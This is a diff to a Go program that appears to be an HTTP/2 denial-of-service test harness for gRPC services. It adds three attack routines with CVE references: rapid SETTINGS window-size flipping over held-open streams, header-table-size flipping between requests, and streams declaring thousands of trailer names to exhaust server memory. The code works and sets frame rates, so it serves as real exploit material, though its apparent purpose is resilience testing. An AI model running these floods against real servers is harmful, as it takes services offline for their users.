@@ -73,6 +73,9 @@ var allClasses = []class{
 	{"hpack-bomb", "header blocks of 1-byte references to a 4 KiB table entry, 2 000 blocks/s", hpackBomb},
 	{"settings-flood", "SETTINGS frames, 50 000/s on 4 connections", settingsFlood},
 	{"settings-many-entries", "SETTINGS frames of 2 000 INITIAL_WINDOW_SIZE entries, 200 frames/s", settingsManyEntries},
+	{"settings-window-flip", "SETTINGS frames of one INITIAL_WINDOW_SIZE entry, alternating between two values, 50 000/s on 4 connections that each hold 100 RouteChat streams open (CVE-2026-78669)", settingsWindowFlip},
+	{"header-table-flip", "GetTeam requests, each followed by a SETTINGS_HEADER_TABLE_SIZE alternating between 0 and 4096, 20 000/s on 4 connections, answers read (CVE-2026-97032)", headerTableFlip},
+	{"trailer-names", "100 RouteChat streams held open on each of 10 connections, each request declaring 4 000 trailer names (CVE-2026-78659)", trailerNames},
 	{"ping-flood", "PING frames, 50 000/s on 4 connections, answers read", pingFlood(true)},
 	{"ping-flood-nonreading", "PING frames, 50 000/s on 4 connections that never read", pingFlood(false)},
 	{"empty-frames", "empty DATA frames on open streams, 50 000/s (CVE-2019-9518)", emptyFrames},
@@ -517,6 +520,93 @@ func settingsManyEntries(a *attacker) {
 		}
 		return nil
 	})
+}
+
+// settingsWindowFlip changes SETTINGS_INITIAL_WINDOW_SIZE with every
+// frame while a connection's every stream is open: each change applies to
+// every stream's send window.
+func settingsWindowFlip(a *attacker) {
+	a.paced(4, 50000, true, routeChatsHeld(100), func(fr *http2.Framer, n int) error {
+		for i := range n {
+			if err := fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(65535 + i%2)}); err != nil {
+				return err
+			}
+		}
+		return nil
+	})
+}
+
+// routeChatsHeld opens n RouteChat streams and leaves them open: their
+// handlers wait for notes, not for send window.
+func routeChatsHeld(n int) func(fr *http2.Framer) error {
+	return func(fr *http2.Framer) error {
+		var buf bytes.Buffer
+		enc := hpack.NewEncoder(&buf)
+		block := requestBlock(enc, &buf, "POST", "/routeguide.v1.RouteGuideService/RouteChat", "application/grpc")
+		for i := range n {
+			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: block, EndHeaders: true}); err != nil {
+				return err
+			}
+		}
+		return nil
+	}
+}
+
+// headerTableFlip asks for responses while it changes the size of the
+// server's HPACK encoder table, the encoder those responses use.
+func headerTableFlip(a *attacker) {
+	msg := getTeamRequest()
+	a.paced(4, 20000, true, nil, perConn(func(fr *http2.Framer, enc *hpack.Encoder, buf *bytes.Buffer, ids *streams, n int) error {
+		block := requestBlock(enc, buf, "POST", "/teams.v1.TeamsService/GetTeam", "application/grpc")
+		for i := range n {
+			id := ids.id()
+			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}); err != nil {
+				return err
+			}
+			if err := fr.WriteData(id, true, msg); err != nil {
+				return err
+			}
+			if err := fr.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: uint32(4096 * (i % 2))}); err != nil {
+				return err
+			}
+		}
+		return nil
+	}))
+}
+
+// getTeamRequest is a gRPC message for GetTeam {city: "Chicago"}.
+func getTeamRequest() []byte {
+	pb := append([]byte{0x0a, 7}, "Chicago"...)
+	return append([]byte{0, 0, 0, 0, byte(len(pb))}, pb...)
+}
+
+// trailerNames holds streams open whose requests each declare thousands
+// of trailer names in one Trailer field (about 27 KiB of the 64 KiB header
+// list): a server that makes a map entry of each name holds far more than
+// the header block it read, for as long as the stream lives.
+func trailerNames(a *attacker) {
+	names := make([]string, 4000)
+	for i := range names {
+		names[i] = fmt.Sprintf("t%04d", i)
+	}
+	declared := strings.Join(names, ",")
+	a.holdOpen(10, 100, true, func(fr *http2.Framer, enc *hpack.Encoder, buf *bytes.Buffer, id uint32) error {
+		block := requestBlock(enc, buf, "POST", "/routeguide.v1.RouteGuideService/RouteChat", "application/grpc", "trailer", declared)
+		// In frames of at most 16 KiB, the size every server reads.
+		const most = 16 << 10
+		first := block[:min(len(block), most)]
+		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndHeaders: len(block) <= most}); err != nil {
+			return err
+		}
+		for rest := block[len(first):]; len(rest) > 0; {
+			part := rest[:min(len(rest), most)]
+			rest = rest[len(part):]
+			if err := fr.WriteContinuation(id, len(rest) == 0, part); err != nil {
+				return err
+			}
+		}
+		return nil
+	}, nil)
 }
 
 // streamsWaitingForWindow opens 50 ListFeatures streams on a connection
